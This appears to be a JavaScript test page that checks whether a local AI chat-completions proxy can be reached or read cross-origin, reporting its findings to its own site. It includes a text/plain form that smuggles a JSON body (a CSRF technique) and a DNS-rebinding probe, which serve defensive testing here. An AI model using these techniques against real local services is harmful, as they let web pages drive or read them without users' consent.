// A web page that tries what pages can, and reports to its own site what it could read.
const { part, proxy, site, model, prompt } = Object.fromEntries(new URLSearchParams(location.search));
const chat = `${proxy}/v1/chat/completions`;
const models = `${proxy}/v1/models`;
const body = (more) => JSON.stringify({ model, messages: [{ role: 'user', content: prompt }], ...more });
const json = { 'content-type': 'application/json' };

// Resolves when an element or a socket says how it went.
function outcome(target, good, make) {
  return new Promise((resolve) => {
    target.addEventListener(good, () => resolve('came'));
    target.addEventListener('error', () => resolve('refused'));
    make(target);
  });
}

// Requests that a script would read the answer of.
async function fetched(url, options) {
  try {
    const answer = await fetch(url, options);
    const text = await answer.text();
    return answer.type === 'opaque' ? `opaque, ${text.length} octets` : `${answer.status} ${text}`;
  } catch (error) {
    return error instanceof TypeError ? 'refused' : `${error}`;
  }
}

function element(name, url) {
  return outcome(document.createElement(name), 'load', (made) => {
    if (name === 'link') Object.assign(made, { rel: 'stylesheet', href: url });
    else made.src = url;
    document.body.append(made);
  });
}

// A frame loads whatever comes; nobody but its own origin looks inside.
function framed(name, start) {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = name;
    document.body.append(frame);
    frame.addEventListener('load', () => {
      try {
        // The empty page that a frame starts with is ours.
        if (frame.contentWindow.location.href !== 'about:blank') resolve(frame.contentDocument.body.innerText);
      } catch {
        resolve('unreadable');
      }
    });
    start(frame);
  });
}

function form(frame) {
  const made = document.createElement('form');
  Object.assign(made, { action: chat, method: 'post', enctype: 'text/plain', target: frame.name });
  const field = document.createElement('input');
  // As plain text, name and value make one object of JSON.
  Object.assign(field, { name: body().slice(0, -1) + ',"user":"', value: '"}' });
  made.append(field);
  document.body.append(made);
  made.submit();
}

function xhr() {
  return outcome(new XMLHttpRequest(), 'load', (request) => {
    request.open('POST', chat);
    request.setRequestHeader('content-type', 'application/json');
    request.send(body());
  });
}

const parts = {
  async foreign() {
    const post = { method: 'POST', body: body() };
    return {
      'json post': await fetched(chat, { ...post, headers: json }),
      'streamed post': await fetched(chat, { method: 'POST', body: body({ stream: true }), headers: json }),
      'plain post': await fetched(chat, post),
      'no-cors post': await fetched(chat, { ...post, mode: 'no-cors' }),
      get: await fetched(models),
      'no-cors get': await fetched(models, { mode: 'no-cors' }),
      verification: await fetched(`${proxy}/v1/verification`, { credentials: 'include' }),
      xhr: await xhr(),
      image: await element('img', models),
      script: await element('script', models),
      events: await outcome(new EventSource(models), 'open', () => {}),
      socket: await outcome(new WebSocket(chat.replace('http', 'ws')), 'open', () => {}),
      frame: await framed('frame', (frame) => { frame.src = models; }),
      form: await framed('form', form),
    };
  },

  async allowed() {
    const ask = (more) => fetch(chat, { method: 'POST', headers: json, body: body(more) });
    const whole = await ask();
    const answer = await whole.json();
    const listed = await (await fetch(models)).json();
    const streaming = await ask({ stream: true });
    const reader = streaming.body.pipeThrough(new TextDecoderStream()).getReader();
    let [events, streamed] = ['', ''];
    for (let piece; !(piece = await reader.read()).done; ) events += piece.value;
    const lines = events.split('\n').filter((line) => line.startsWith('data: {')).map((line) => JSON.parse(line.slice(6)));
    for (const event of lines) streamed += event.choices[0]?.delta.content ?? '';
    const missing = await ask({ model: 'other' });
    const receipt = await (await fetch(`${proxy}/v1/receipts/${answer.id}`)).json();
    return {
      models: listed.data.map((one) => one.id),
      whole: answer.choices[0].message.content,
      streamed,
      done: events.endsWith('data: [DONE]\n\n'),
      node: streaming.headers.get('x-veritee-node'),
      verdict: whole.headers.get('x-veritee-verdict'),
      error: [missing.status, (await missing.json()).error.code],
      receipt: receipt.claims.finish_reason,
    };
  },

  async rebound() {
    await fetch(`${site}/flip`, { method: 'POST', mode: 'no-cors' });
    const told = async (path, options) => {
      const answer = await fetch(path, options);
      return [answer.status, (await answer.json()).error.code];
    };
    return {
      models: await told('/v1/models'),
      chat: await told('/v1/chat/completions', { method: 'POST', headers: json, body: body() }),
      verification: await told('/v1/verification'),
    };
  },
};

parts[part]()
  .catch((error) => ({ failed: `${error}` }))
  .then((seen) => fetch(`${site}/report`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) }));
